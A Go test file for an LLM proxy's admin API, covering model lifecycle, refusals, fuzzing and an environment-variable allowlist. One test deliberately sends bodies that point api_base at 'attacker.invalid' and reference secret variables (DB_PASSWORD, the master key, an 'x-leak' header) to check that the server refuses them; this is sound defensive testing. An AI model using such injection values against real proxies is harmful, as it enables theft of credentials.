package proxy

import (
	"context"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/tidwall/gjson"

	"github.com/herd-proxy/herd/config"
	"github.com/herd-proxy/herd/internal/fakeupstream"
	"github.com/herd-proxy/herd/state/local"
)

// fakeAdmin applies changes the way the cluster's store does, minus raft: edit the Dynamic,
// build it, swap it into the server.
type fakeAdmin struct {
	mu     sync.Mutex
	static config.Static
	dyn    config.Dynamic
	env    config.Env
	srv    *Server
	fail   error // returned by every call when set
	calls  int   // changes asked for
}

func (a *fakeAdmin) apply(edit func(config.Dynamic, *config.Config) (config.Dynamic, error)) (*config.Config, *config.Config, uint64, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.calls++
	if a.fail != nil {
		return nil, nil, 0, a.fail
	}
	cur, err := config.Build("cur", a.static, a.dyn, a.env, nil)
	if err != nil {
		return nil, nil, 0, err
	}
	next, err := edit(a.dyn, cur)
	if err != nil {
		return nil, nil, 0, err
	}
	cfg, err := config.Build("next", a.static, next, a.env, nil)
	if err != nil {
		return nil, nil, 0, err
	}
	if _, err := config.AddedID(cur, cfg); err != nil && len(cfg.ModelList) > len(cur.ModelList) {
		return nil, nil, 0, err
	}
	next.Version = a.dyn.Version + 1
	a.dyn = next
	return cur, cfg, next.Version, a.srv.Apply(cfg, next.Version)
}

func (a *fakeAdmin) AddModel(_ context.Context, entry map[string]any) (string, uint64, error) {
	_, cfg, v, err := a.apply(func(d config.Dynamic, _ *config.Config) (config.Dynamic, error) { return d.AddModel(entry), nil })
	if err != nil {
		return "", 0, err
	}
	return cfg.ModelList[len(cfg.ModelList)-1].ID, v, nil
}

func (a *fakeAdmin) UpdateModel(_ context.Context, id string, patch map[string]any) (uint64, error) {
	_, _, v, err := a.apply(func(d config.Dynamic, cfg *config.Config) (config.Dynamic, error) {
		i, err := config.IndexOf(cfg, id)
		if err != nil {
			return d, err
		}
		return d.UpdateModel(i, id, patch), nil
	})
	return v, err
}

func (a *fakeAdmin) DeleteModel(_ context.Context, id string) (uint64, error) {
	_, _, v, err := a.apply(func(d config.Dynamic, cfg *config.Config) (config.Dynamic, error) {
		i, err := config.IndexOf(cfg, id)
		if err != nil {
			return d, err
		}
		return d.DeleteModel(i), nil
	})
	return v, err
}

func (a *fakeAdmin) UpdateRouterSettings(_ context.Context, patch map[string]any) (uint64, error) {
	_, _, v, err := a.apply(func(d config.Dynamic, _ *config.Config) (config.Dynamic, error) {
		return d.UpdateRouterSettings(patch), nil
	})
	return v, err
}

const adminConfig = `
model_list:
  - model_name: gpt-4o
    litellm_params:
      model: openai/gpt-4o
      api_base: {{UP}}/v1
      api_key: sk-upstream-secret
      rpm: 100
general_settings:
  master_key: sk-master
`

func startAdmin(t *testing.T, yaml string) (*harness, *fakeAdmin, string) {
	t.Helper()
	up, base := fakeupstream.Start(t, fakeupstream.Options{})
	_ = up
	yaml = strings.ReplaceAll(yaml, "{{UP}}", base)
	env := config.MapEnv{}
	cfg, err := config.Parse("admin.yaml", []byte(yaml), env, testLogger(t))
	if err != nil {
		t.Fatal(err)
	}
	static, dyn, err := config.Split([]byte(yaml))
	if err != nil {
		t.Fatal(err)
	}
	adm := &fakeAdmin{static: static, dyn: dyn, env: env}
	st := local.New(local.Options{})
	srv, err := New(Options{Config: cfg, State: st, Backend: "local", Node: "n1", Logger: testLogger(t), Admin: adm,
		Consensus: func() ConsensusStatus {
			return ConsensusStatus{Leader: "n1", Term: 3, Voters: []string{"n1"}, ConfigVersion: adm.dyn.Version}
		}})
	if err != nil {
		t.Fatal(err)
	}
	adm.srv = srv
	ts := httptest.NewServer(srv)
	t.Cleanup(ts.Close)
	return &harness{URL: ts.URL, state: st, srv: srv}, adm, base
}

func TestAdminModelLifecycle(t *testing.T) {
	needsServers(t)
	h, _, base := startAdmin(t, adminConfig)
	key := []string{"Authorization", "Bearer sk-master"}

	resp, body := post(t, h.URL+"/model/new", fmt.Sprintf(`{"model_name":"mini","litellm_params":{"model":"openai/gpt-4o-mini","api_base":%q,"api_key":"sk-new-secret","rpm":2},"model_info":{"id":"mini-1"}}`, base+"/v1"), key...)
	if resp.StatusCode != 200 || gjson.Get(body, "id").String() != "mini-1" || gjson.Get(body, "config_version").Int() != 1 {
		t.Fatalf("/model/new: %d %s", resp.StatusCode, body)
	}
	if strings.Contains(body, "sk-new-secret") {
		t.Fatal("/model/new echoed the api_key")
	}
	// The new group routes, and its limit holds.
	for i := range 3 {
		resp, body := post(t, h.URL+"/v1/chat/completions", `{"model":"mini","messages":[{"role":"user","content":"hi"}]}`, key...)
		if want := map[bool]int{true: 200, false: 429}[i < 2]; resp.StatusCode != want {
			t.Fatalf("request %d to the new model: %d %s", i, resp.StatusCode, body)
		}
	}
	_, info := get(t, h.URL+"/model/info", key...)
	if !strings.Contains(info, "mini-1") || strings.Contains(info, "sk-new-secret") {
		t.Fatalf("/model/info after add: %s", info)
	}

	// Raising the limit keeps the counter (keyed by ID): one more fits, not three.
	resp, body = post(t, h.URL+"/model/update", `{"model_info":{"id":"mini-1"},"litellm_params":{"rpm":3}}`, key...)
	if resp.StatusCode != 200 || gjson.Get(body, "config_version").Int() != 2 {
		t.Fatalf("/model/update: %d %s", resp.StatusCode, body)
	}
	codes := []int{}
	for range 2 {
		resp, _ := post(t, h.URL+"/v1/chat/completions", `{"model":"mini","messages":[{"role":"user","content":"hi"}]}`, key...)
		codes = append(codes, resp.StatusCode)
	}
	if codes[0] != 200 || codes[1] != 429 {
		t.Fatalf("after raising rpm 2 -> 3 with 2 used: %v, want [200 429]", codes)
	}

	resp, body = post(t, h.URL+"/config/update", `{"router_settings":{"routing_strategy":"least-busy"}}`, key...)
	if resp.StatusCode != 200 || gjson.Get(body, "config_version").Int() != 3 {
		t.Fatalf("/config/update: %d %s", resp.StatusCode, body)
	}

	resp, body = post(t, h.URL+"/model/delete", `{"id":"mini-1"}`, key...)
	if resp.StatusCode != 200 || gjson.Get(body, "config_version").Int() != 4 {
		t.Fatalf("/model/delete: %d %s", resp.StatusCode, body)
	}
	resp, body = post(t, h.URL+"/v1/chat/completions", `{"model":"mini","messages":[{"role":"user","content":"hi"}]}`, key...)
	wantError(t, resp, body, 400, "mini")

	_, st := get(t, h.URL+"/cluster/status", key...)
	// served_config_version names the version the listed deployments come from.
	if gjson.Get(st, "config_version").Int() != 4 || gjson.Get(st, "served_config_version").Int() != 4 || gjson.Get(st, "leader").String() != "n1" || gjson.Get(st, "term").Int() != 3 || gjson.Get(st, "voters.0").String() != "n1" {
		t.Fatalf("/cluster/status: %s", st)
	}
}

func TestAdminRefusals(t *testing.T) {
	needsServers(t)
	h, adm, _ := startAdmin(t, adminConfig)
	key := []string{"Authorization", "Bearer sk-master"}
	tests := []struct {
		name, path, body string
		hdr              []string
		status           int
		msg              string
	}{
		{"no key", "/model/new", `{}`, nil, 401, "Authentication"},
		{"wrong key", "/model/delete", `{"id":"x"}`, []string{"Authorization", "Bearer nope"}, 401, "Authentication"},
		{"not JSON", "/model/new", `{"model_name":`, key, 400, "JSON object"},
		{"array", "/model/new", `[1]`, key, 400, "JSON object"},
		{"no model_name", "/model/new", `{"litellm_params":{"model":"openai/x"}}`, key, 400, "model_name"},
		{"no litellm_params", "/model/new", `{"model_name":"x"}`, key, 400, "litellm_params"},
		{"invalid rpm", "/model/new", `{"model_name":"x","litellm_params":{"model":"openai/x","rpm":-5}}`, key, 400, "model_list[1].litellm_params.rpm"},
		{"duplicate id", "/model/new", `{"model_name":"x","litellm_params":{"model":"openai/x"},"model_info":{"id":"` + h.srv.snap.Load().deps[0].cfg.ID + `"}}`, key, 400, "duplicate id"},
		{"unknown id", "/model/delete", `{"id":"nope"}`, key, 400, "no deployment with that id"},
		{"update without id", "/model/update", `{"litellm_params":{"rpm":1}}`, key, 400, "model_info.id"},
		{"other blocks", "/config/update", `{"general_settings":{"master_key":"x"},"router_settings":{}}`, key, 400, "Only router_settings"},
		{"redis at runtime", "/config/update", `{"router_settings":{"redis_host":"r1"}}`, key, 400, "startup only"},
		{"bad strategy", "/config/update", `{"router_settings":{"routing_strategy":"fastest"}}`, key, 400, "routing_strategy"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp, body := post(t, h.URL+tt.path, tt.body, tt.hdr...)
			wantError(t, resp, body, tt.status, tt.msg)
		})
	}
	if adm.dyn.Version != 0 {
		t.Fatalf("refused changes moved the version to %d", adm.dyn.Version)
	}

	adm.fail = fmt.Errorf("%w: no raft quorum", ErrConfigUnavailable)
	resp, body := post(t, h.URL+"/model/delete", `{"id":"x"}`, key...)
	wantError(t, resp, body, http.StatusServiceUnavailable, "no raft quorum")
	// Reads keep serving.
	if resp, _ := get(t, h.URL+"/model/info", key...); resp.StatusCode != 200 {
		t.Fatalf("/model/info without quorum: %d", resp.StatusCode)
	}
}

func TestAdminNeedsMasterKeyConfigured(t *testing.T) {
	needsServers(t)
	h, _, _ := startAdmin(t, strings.Replace(adminConfig, "general_settings:\n  master_key: sk-master\n", "", 1))
	resp, body := post(t, h.URL+"/model/delete", `{"id":"x"}`)
	wantError(t, resp, body, http.StatusForbidden, "master key")
}

// FuzzAdminBodies: whatever a client sends to the admin API, herd answers with a status from
// the admin set and an OpenAI-shaped error, never a panic or a 500.
func FuzzAdminBodies(f *testing.F) {
	for _, s := range []string{
		`{"model_name":"x","litellm_params":{"model":"openai/x","rpm":5}}`,
		`{"model_name":"x","litellm_params":{"model":"openai/x","rpm":"os.environ/NOPE"},"model_info":{"id":7}}`,
		`{"model_info":{"id":"a"},"litellm_params":null}`,
		`{"id":["a"]}`,
		`{"router_settings":{"fallbacks":[{"x":["y"]}],"model_group_alias":{"a":{"model":1}}}}`,
		`{"model_name":"x","litellm_params":{"model":"azure/x","api_base":"not a url","timeout":-1}}`,
		`[[[[[[[[[[]]]]]]]]]]`, `null`, `"x"`, `{}`,
	} {
		f.Add("/model/new", s)
		f.Add("/config/update", s)
		f.Add("/model/update", s)
		f.Add("/model/delete", s)
	}
	static, dyn, err := config.Split([]byte(strings.ReplaceAll(adminConfig, "{{UP}}", "http://127.0.0.1:9")))
	if err != nil {
		f.Fatal(err)
	}
	cfg, err := config.Build("fuzz", static, dyn, config.MapEnv{}, nil)
	if err != nil {
		f.Fatal(err)
	}
	adm := &fakeAdmin{static: static, dyn: dyn, env: config.MapEnv{}}
	srv, err := New(Options{Config: cfg, State: local.New(local.Options{}), Admin: adm,
		Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		f.Fatal(err)
	}
	adm.srv = srv
	paths := map[string]bool{"/model/new": true, "/config/update": true, "/model/update": true, "/model/delete": true}
	f.Fuzz(func(t *testing.T, path, body string) {
		if !paths[path] {
			return
		}
		req := httptest.NewRequest(http.MethodPost, path, strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Authorization", "Bearer sk-master")
		rec := httptest.NewRecorder()
		srv.ServeHTTP(rec, req)
		switch rec.Code {
		case 200:
		case 400, 413:
			if !gjson.Get(rec.Body.String(), "error.message").Exists() {
				t.Fatalf("%s %q: %d without an OpenAI-shaped error: %s", path, body, rec.Code, rec.Body)
			}
		default:
			t.Fatalf("%s %q: status %d: %s", path, body, rec.Code, rec.Body)
		}
	})
}

// TestAdminTakesCurlBodies: curl -d sends a form Content-Type; the body is JSON all the same,
// and the README's examples must work as written.
func TestAdminTakesCurlBodies(t *testing.T) {
	needsServers(t)
	h, _, base := startAdmin(t, adminConfig)
	body := fmt.Sprintf(`{"model_name":"mini","litellm_params":{"model":"openai/gpt-4o-mini","api_base":%q,"rpm":2},"model_info":{"id":"mini-1"}}`, base+"/v1")
	for _, ct := range []string{"application/x-www-form-urlencoded", ""} {
		resp, got := do(t, http.MethodPost, h.URL+"/model/update", strings.NewReader(`{"model_info":{"id":"nope"},"litellm_params":{"rpm":3}}`),
			"Authorization", "Bearer sk-master", "Content-Type", ct)
		if resp.StatusCode != 400 || !strings.Contains(got, "nope") {
			t.Fatalf("Content-Type %q: %d %s, want the body read (400 naming the unknown id)", ct, resp.StatusCode, got)
		}
	}
	resp, got := do(t, http.MethodPost, h.URL+"/model/new", strings.NewReader(body),
		"Authorization", "Bearer sk-master", "Content-Type", "application/x-www-form-urlencoded")
	if resp.StatusCode != 200 || gjson.Get(got, "id").String() != "mini-1" {
		t.Fatalf("/model/new with curl's Content-Type: %d %s", resp.StatusCode, got)
	}
	resp, got = do(t, http.MethodPost, h.URL+"/model/new", strings.NewReader("model_name=mini"),
		"Authorization", "Bearer sk-master", "Content-Type", "application/x-www-form-urlencoded")
	if resp.StatusCode != 400 || !strings.Contains(got, "JSON object") {
		t.Fatalf("a real form body: %d %s, want a 400 asking for a JSON object", resp.StatusCode, got)
	}
}

// startAdminEnv is startAdmin with env, and with the node's config.AdminEnv both in the admin
// (as the raft store builds with it) and, when precheck, in the server.
func startAdminEnv(t *testing.T, yaml string, env config.MapEnv, precheck bool) (*harness, *fakeAdmin, string) {
	t.Helper()
	_, base := fakeupstream.Start(t, fakeupstream.Options{})
	yaml = strings.ReplaceAll(yaml, "{{UP}}", base)
	cfg, err := config.Parse("admin.yaml", []byte(yaml), env, testLogger(t))
	if err != nil {
		t.Fatal(err)
	}
	static, dyn, err := config.Split([]byte(yaml))
	if err != nil {
		t.Fatal(err)
	}
	adminEnv := config.NewAdminEnv(env, static, dyn, cfg.ClusterSettings.AdminEnvAllow)
	adm := &fakeAdmin{static: static, dyn: dyn, env: adminEnv}
	opts := Options{Config: cfg, State: local.New(local.Options{}), Backend: "local", Node: "n1", Logger: testLogger(t), Admin: adm}
	if precheck {
		opts.AdminEnv = adminEnv
	}
	srv, err := New(opts)
	if err != nil {
		t.Fatal(err)
	}
	adm.srv = srv
	ts := httptest.NewServer(srv)
	t.Cleanup(ts.Close)
	return &harness{URL: ts.URL, srv: srv}, adm, base
}

// TestAdminEnvAllowlist: os.environ/ in admin bodies resolves only the names the node's file
// uses in model_list/router_settings or cluster_settings.admin_env_allow matches; anything
// else, and the master key's variable whatever the globs, is a 400 naming the variable and the
// setting, refused before the change is proposed. Without the server's check, building the
// change (as raft's apply does on every node) refuses it all the same.
func TestAdminEnvAllowlist(t *testing.T) {
	needsServers(t)
	const yaml = `
model_list:
  - model_name: gpt-4o
    litellm_params:
      model: openai/gpt-4o
      api_base: {{UP}}/v1
      api_key: os.environ/UP_KEY
general_settings:
  master_key: os.environ/LITELLM_MASTER_KEY
cluster_settings:
  admin_env_allow: ["TEAM_*_KEY"]
`
	env := config.MapEnv{"UP_KEY": "sk-up-secret", "LITELLM_MASTER_KEY": "sk-master", "TEAM_A_KEY": "sk-team-a", "DB_PASSWORD": "db-secret"}
	key := []string{"Authorization", "Bearer sk-master"}
	for _, precheck := range []bool{true, false} {
		t.Run(fmt.Sprintf("precheck=%v", precheck), func(t *testing.T) {
			h, adm, base := startAdminEnv(t, yaml, env, precheck)
			newModel := func(id, apiKey string) (*http.Response, string) {
				return post(t, h.URL+"/model/new", fmt.Sprintf(`{"model_name":"m-%s","litellm_params":{"model":"openai/x","api_base":%q,"api_key":%q},"model_info":{"id":%q}}`,
					id, base+"/v1", apiKey, id), key...)
			}
			for _, tt := range []struct{ id, ref string }{{"file", "os.environ/UP_KEY"}, {"glob", "os.environ/TEAM_A_KEY"}} {
				if resp, body := newModel(tt.id, tt.ref); resp.StatusCode != 200 {
					t.Fatalf("/model/new with %s: %d %s", tt.ref, resp.StatusCode, body)
				}
			}
			version, calls := adm.dyn.Version, adm.calls
			refusals := []struct{ name, path, body, msg string }{
				{"other variable", "/model/new", "", "os.environ/DB_PASSWORD is not allowed in the admin API: this node's config file does not use it in model_list or router_settings; add it to cluster_settings.admin_env_allow"},
				{"master key", "/model/new", "", "os.environ/LITELLM_MASTER_KEY is not allowed in the admin API: it holds one of herd's own keys"},
				{"update", "/model/update", `{"model_info":{"id":"file"},"litellm_params":{"api_key":"os.environ/DB_PASSWORD"}}`, "os.environ/DB_PASSWORD is not allowed"},
				{"update extra header", "/model/update", `{"model_info":{"id":"file"},"litellm_params":{"extra_headers":{"x-leak":"os.environ/LITELLM_MASTER_KEY"}}}`, "os.environ/LITELLM_MASTER_KEY is not allowed"},
				{"router settings", "/config/update", `{"router_settings":{"routing_strategy":"os.environ/DB_PASSWORD"}}`, "router_settings.routing_strategy: os.environ/DB_PASSWORD is not allowed"},
			}
			for _, r := range refusals {
				body := r.body
				if body == "" {
					v := map[string]string{"other variable": "DB_PASSWORD", "master key": "LITELLM_MASTER_KEY"}[r.name]
					body = fmt.Sprintf(`{"model_name":"leak","litellm_params":{"model":"openai/x","api_base":"http://attacker.invalid","api_key":"os.environ/%s"}}`, v)
				}
				resp, got := post(t, h.URL+r.path, body, key...)
				wantError(t, resp, got, 400, r.msg)
				for _, secret := range []string{"sk-master", "db-secret", "sk-up-secret"} {
					if strings.Contains(got, secret) {
						t.Errorf("%s: the reply shows a secret: %s", r.name, got)
					}
				}
			}
			if adm.dyn.Version != version {
				t.Errorf("refused changes moved the version %d -> %d", version, adm.dyn.Version)
			}
			if precheck && adm.calls != calls {
				t.Errorf("refused changes reached the config admin (%d calls)", adm.calls-calls)
			}
		})
	}
}
